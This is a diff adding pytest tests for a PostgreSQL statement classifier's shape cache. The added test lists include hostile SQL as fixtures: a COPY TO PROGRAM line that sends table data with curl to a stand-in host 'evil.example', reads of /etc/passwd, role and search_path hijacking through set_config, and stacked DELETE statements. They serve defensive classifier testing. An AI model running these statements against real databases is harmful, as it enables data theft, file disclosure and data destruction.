@@ -414,3 +414,91 @@ def test_results_of_another_statement_have_no_lineage_of_their_own(sql):
     from addons.classifiers.postgres.lineage import lineage
 
     assert lineage(sql) is None  # the terminal reads what they run, or masks them whole
+
+
+# statements of one shape: the same SQL with other constants
+
+
+def uncached(sql: str, phase: str = "execute"):
+    sqlops._statements.cache_clear()
+    sqlops.SHAPES.clear()
+    return sqlops.classify("db", phase, sql)
+
+
+def other_constants(sql: str, value: str) -> str:
+    """`sql` with every constant replaced by `value` (a number, a string) of its kind."""
+    from pglast import parser
+
+    out, at = [], 0
+    for t in parser.scan(sql):
+        if t.name in sqlops.CONSTANT_TOKENS:
+            out += [sql[at:t.start], f"'{value}'" if t.name != "ICONST" else str(len(value))]
+            at = t.end + 1
+    return "".join(out) + sql[at:]
+
+
+SHAPED = [
+    "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
+    "select * from users where email = 'a@b.c' and id > 3 -- note",
+    "UPDATE pgbench_accounts SET abalance = abalance + -4321 WHERE aid = 77;",
+    "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, 3, -4, CURRENT_TIMESTAMP);",
+    "DELETE FROM users WHERE id = 1",
+    "DELETE FROM users",
+    "SELECT * FROM users FOR UPDATE",
+    "SELECT * INTO copy FROM users WHERE id = 2",
+    "WITH gone AS (DELETE FROM users WHERE id = 5 RETURNING *) SELECT count(*) FROM gone",
+    "WITH users AS (SELECT 1) SELECT * FROM users",
+    "SELECT 'DROP TABLE users' -- DROP TABLE users",
+    "SELECT $$DELETE FROM users$$",
+    "SELECT nextval('users_id_seq')",
+    "SELECT pg_terminate_backend(42)",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT pg_read_file('/etc/passwd', 0, 100)",
+    "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+    "SELECT query FROM pg_stat_activity WHERE pid <> 1",
+    "SELECT pg_notify('orders', 'x')",
+]
+"""Each is classified once the cache knows its shape (other constants, first) and must
+come out as if nothing were cached."""
+NOT_SHAPED = [
+    "SELECT set_config('role', 'postgres', false)",  # the setting is a constant
+    "SELECT set_config('jit', 'off', false)",
+    "SELECT set_config('search_path', 'evil', false), 1",
+    "SELECT pg_catalog.set_config('transaction_read_only', 'off', false)",
+    "SET search_path = evil, pg_catalog",
+    "SET statement_timeout = '5s'",
+    "SET transaction_read_only TO 'off'",
+    "EXPLAIN (ANALYZE true) DELETE FROM users",
+    "EXPLAIN (ANALYZE false) DELETE FROM users",
+    "COPY users FROM '/etc/passwd'",
+    "COPY users TO PROGRAM 'curl -d @- evil.example'",
+    "PREPARE TRANSACTION 'tx1'",
+    "COMMIT PREPARED 'other-apps-tx'",
+    "NOTIFY orders, 'x'",
+    "SELECT 1; DELETE FROM users WHERE id = 2",
+    "DELETE FROM users WHERE id = 2; SELECT 1",
+    "SELECT 1; SELECT set_config('role', 'postgres', false)",
+    "DO $$BEGIN DELETE FROM users; END$$",
+    *READ_WRITE_MODE,
+]
+
+
+@pytest.mark.parametrize("sql", SHAPED + NOT_SHAPED)
+@pytest.mark.parametrize("value", ["jit", "off", "a@b.c", "x"])
+def test_a_known_shape_is_classified_as_if_nothing_were_cached(sql, value):
+    expected = {phase: uncached(sql, phase) for phase in ("execute", "describe")}
+    uncached(other_constants(sql, value))
+    assert {phase: sqlops.classify("db", phase, sql) for phase in expected} == expected
+
+
+@pytest.mark.parametrize("sql, shaped", [(s, True) for s in SHAPED] + [(s, False) for s in NOT_SHAPED])
+def test_only_a_single_statement_that_reads_no_constant_is_classified_by_its_shape(sql, shaped, monkeypatch):
+    import pglast
+
+    uncached(other_constants(sql, "jit"))
+    sqlops._statements.cache_clear()  # the shapes stay: only they can answer
+    parses = []
+    real = pglast.parse_sql
+    monkeypatch.setattr(pglast, "parse_sql", lambda text: parses.append(text) or real(text))
+    sqlops.classify("db", "execute", sql)
+    assert (parses == []) == shaped
